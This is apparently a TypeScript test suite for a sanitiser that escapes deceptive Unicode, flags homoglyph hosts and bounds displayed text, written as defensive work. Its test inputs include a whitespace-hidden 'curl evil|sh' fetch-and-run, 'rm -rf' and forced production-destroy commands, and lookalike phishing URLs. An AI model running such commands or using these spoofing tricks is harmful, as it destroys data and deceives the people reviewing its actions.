import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { boundedText, hadDeceivingText, visibleText } from '../../../../lambdas/domain/display/visible-text.ts';

const runs = { numRuns: Number(process.env.FAST_CHECK_RUNS ?? 2000) };
const patience = 60_000 + 30 * runs.numRuns;
const deceiving = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Cn}\p{Default_Ignorable_Code_Point}\p{Zl}\p{Zp}]/u;
const anyText = fc.array(
  fc.oneof(
    fc.string({ unit: 'binary', maxLength: 12 }),
    fc.constantFrom('⟨', '⟩', '⟨hidden⟩', '⟨4 spaces⟩', '\\u{200b}', '\n\n\n\n', ' '.repeat(30), '\u3000\u3000', '//ex\u0430mple.com', '@', '\u202e', '\ud800', '\u{e0041}', 'e\u0301\u0301\u0301\u0301\u0301\u0301', '👩\u200d👧'),
  ),
  { maxLength: 10 },
).map((parts) => parts.join(''));

describe('visibleText', () => {
  it('118: escapes bidi controls, so no text is read in another order', () => {
    expect(visibleText('rm \u202etxt.elif\u202c')).toBe('rm \\u{202e}txt.elif\\u{202c}');
    expect(visibleText('\u2066a\u2067b\u2068c\u2069\u061c\u200e\u200f')).toBe('\\u{2066}a\\u{2067}b\\u{2068}c\\u{2069}\\u{61c}\\u{200e}\\u{200f}');
  });

  it('118: can tell that a warning is due', () => {
    for (const text of ['rm \u202ex', `a${'\u3000'.repeat(40)}b`, '//r\u0430y.com', `a${'\n'.repeat(9)}b`]) expect(hadDeceivingText(visibleText(text))).toBe(true);
    expect(hadDeceivingText(visibleText('rm -rf C:\\users ⟨hidden⟩'))).toBe(false);
  });

  it('118: escapes characters of no width', () => {
    expect(visibleText('a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u034fh\u115fi\u3164j')).toBe(
      'a\\u{200b}b\\u{200c}c\\u{200d}d\\u{2060}e\\u{feff}f\\u{ad}g\\u{34f}h\\u{115f}i\\u{3164}j',
    );
  });

  it.each([
    ['tag characters', '\u{e0041}\u{e007f}', '\\u{e0041}\\u{e007f}'],
    ['variation selectors and their supplement', 'a\ufe0fb\u{e0100}', 'a\\u{fe0f}b\\u{e0100}'],
    ['musical and shorthand format controls', '\u{1d173}\u{1bca0}', '\\u{1d173}\\u{1bca0}'],
    ['C0 and C1 controls', '\u0000\u0007\u007f\u0085\u009b', '\\u{0}\\u{7}\\u{7f}\\u{85}\\u{9b}'],
    ['terminal escapes', '\u001b[31mred\u001b[0m', '\\u{1b}[31mred\\u{1b}[0m'],
    ['a lone carriage return and a tab', 'safe\rrm\tx', 'safe\\u{d}rm\\u{9}x'],
    ['lone surrogates', 'a\ud83db\udc00', 'a\\u{d83d}b\\u{dc00}'],
    ['private use', '\ue000\u{f0000}', '\\u{e000}\\u{f0000}'],
    ['code points that nobody has assigned', '\u0378\u{1fffe}', '\\u{378}\\u{1fffe}'],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'a\\u{2028}b\\u{2029}c'],
    ['spaces that are not the space', 'rm\u00a0-rf\u2003/\u3000x', 'rm\\u{a0}-rf\\u{2003}/\\u{3000}x'],
    ['what looks like a space', 'a\u2800b', 'a\\u{2800}b'],
  ])('119: escapes %s', (_name, text, shown) => {
    expect(visibleText(text)).toBe(shown);
  });

  it('119: counts long white space of any kind, so nothing is pushed out of view', () => {
    expect(visibleText(`ls${'\u3000'.repeat(400)}; curl evil|sh`)).toBe('ls⟨400 spaces⟩; curl evil|sh');
    expect(visibleText(`ls${' '.repeat(17)}x`)).toBe('ls⟨17 spaces⟩x');
    expect(visibleText(`ls${' '.repeat(16)}x`)).toBe(`ls${' '.repeat(16)}x`);
  });

  it('119: counts blank lines, with and without line breaks kept', () => {
    const text = `a${'\n'.repeat(200)}b`;
    expect(visibleText(text)).toBe('a⟨200 line breaks⟩ b');
    expect(visibleText(text, { keep_newlines: true })).toBe('a⟨200 line breaks⟩\nb');
    expect(visibleText(`a\n${' \n'.repeat(99)}    b`, { keep_newlines: true })).toBe('a⟨100 line breaks⟩\n    b');
  });

  it('keeps a line break only for a caller that asks', () => {
    expect(visibleText('one\ntwo')).toBe('one\\u{a}two');
    expect(visibleText('one\ntwo', { keep_newlines: true })).toBe('one\ntwo');
    expect(visibleText('one\r\ntwo\u200b', { keep_newlines: true })).toBe('one\\u{d}\ntwo\\u{200b}');
  });

  it('shows a host of other scripts beside its punycode', () => {
    expect(visibleText('https://r\u0430ypal.com/login')).toBe('https://r\u0430ypal.com⟨host xn--rypal-4ve.com⟩/login');
    expect(visibleText('http://me@ex\u0430mple.com:80')).toContain('⟨host xn--exmple-4nf.com⟩:80');
    expect(visibleText('mail bob@\u0435xample.com')).toContain('⟨host xn--xample-2of.com⟩');
    expect(visibleText('https://example.com/\u00e9')).toBe('https://example.com/\u00e9');
  });

  it('adds its own mark after a host that brings a false one', () => {
    expect(visibleText('//ev\u0456l.com⟨host good.com⟩')).toBe('//ev\u0456l.com⟨host xn--evl-khd.com⟩⟨host good.com⟩');
  });

  it('says of a host that cannot be one that it is not valid', () => {
    expect(visibleText(`//\u0430${'b'.repeat(300)}.com`)).toContain('⟨host not valid⟩');
  });

  it('escapes combining marks beyond the fourth on one letter', () => {
    expect(visibleText(`e${'\u0301'.repeat(6)}`)).toBe(`e${'\u0301'.repeat(4)}\\u{301}\\u{301}`);
  });

  it('119: lets no deceiving code point of all of Unicode through', () => {
    const spaces = /(?! )\p{Zs}|[\u2800\ufffc]/u;
    for (let code = 0; code <= 0x10ffff; code += code < 0x3000 || (code >= 0xe0000 && code < 0xe1000) ? 1 : 7) {
      const character = String.fromCodePoint(code);
      if ((visibleText(character) !== character) !== (deceiving.test(character) || spaces.test(character))) expect.unreachable(`U+${code.toString(16)}`);
    }
  });

  it('leaves ordinary text in any script as it is', () => {
    for (const text of ['Grüße, ¡hola!', '返金は注文', 'עברית', 'русский текст', '🇩🇪 🟡 é', 'a – b … “c”']) expect(visibleText(text)).toBe(text);
  });

  it('writes nothing that a second reading would change, and nothing deceiving', () => {
    fc.assert(fc.property(anyText, fc.boolean(), (text, keep_newlines) => {
      const shown = visibleText(text, { keep_newlines });
      expect(visibleText(shown, { keep_newlines })).toBe(shown);
      expect(deceiving.test(shown.replaceAll('\n', ''))).toBe(false);
      if (!keep_newlines) expect(shown).not.toContain('\n');
    }), runs);
  }, patience);
});

describe('boundedText', () => {
  it('shows head and tail and the number of bytes between', () => {
    const shown = boundedText(`${'h'.repeat(500)}${'t'.repeat(500)}`, 100);
    const [, head = '', cut = '', tail = ''] = /^(h+)⟨(\d+) bytes cut⟩(t+)$/.exec(shown) ?? [];
    expect(head.length + Number(cut) + tail.length).toBe(1000);
    expect(head.length).toBeGreaterThan(tail.length);
    expect(Buffer.byteLength(shown)).toBeLessThanOrEqual(100);
  });

  it('leaves text alone that fits exactly', () => {
    expect(boundedText('a'.repeat(100), 100)).toBe('a'.repeat(100));
    expect(boundedText('é'.repeat(50), 100)).toBe('é'.repeat(50));
  });

  it.each([['an emoji', '🟡'], ['a flag', '🇩🇪'], ['a letter with accents', 'e\u0301\u0302'], ['a skin tone', '👍🏽'], ['a Hangul syllable of three parts', '\u1112\u1161\u11ab']])(
    '082: never splits %s at any limit',
    (_name, grapheme) => {
      for (let before = 40; before < 60; before += 1) {
        const shown = boundedText(`${'a'.repeat(before)}${grapheme}${'b'.repeat(80)}${grapheme}${'c'.repeat(20)}`, 80);
        expect(shown.isWellFormed()).toBe(true);
        expect(shown.replaceAll(grapheme, '')).toMatch(/^a*b*⟨\d+ bytes cut⟩b*c*$/);
      }
    },
  );

  it('082: cuts between an escape and its neighbours, never inside', () => {
    for (let before = 20; before < 60; before += 1) {
      const shown = boundedText(`${'a'.repeat(before)}\u202e${'b'.repeat(100)}`, 80);
      expect(shown.replaceAll('\\u{202e}', '')).toMatch(/^a*b*⟨\d+ bytes cut⟩b*$/);
    }
  });

  it('never cuts a mark or a host from its punycode', () => {
    for (let before = 20; before < 60; before += 1) {
      expect(boundedText(`${'a'.repeat(before)}⟨hidden⟩${'b'.repeat(100)}`, 80).replaceAll('⟨hidden⟩', '')).toMatch(/^a*b*⟨\d+ bytes cut⟩b*$/);
      expect(boundedText(`${'a '.repeat(before)}//r\u0430y.com/${'b'.repeat(100)}`, 120)).not.toMatch(/r\u0430(?!y\.com⟨host)/);
    }
  });

  it('122: keeps the start of a command, so the program is always read', () => {
    expect(boundedText(`/usr/local/bin/destroy --env prod --force ${'--exclude x '.repeat(50)}`, 120)).toMatch(/^\/usr\/local\/bin\/destroy --env prod --force /);
    expect(visibleText('/opt/ana/bin/run --now')).toBe('/opt/ana/bin/run --now');
  });

  it('never exceeds its bound, whatever the text', () => {
    fc.assert(fc.property(anyText, fc.nat(300), fc.boolean(), (text, bytes, keep_newlines) => {
      const shown = boundedText(text, bytes, { keep_newlines });
      expect(Buffer.byteLength(shown)).toBeLessThanOrEqual(bytes);
      expect(shown.isWellFormed()).toBe(true);
    }), runs);
  }, patience);
});
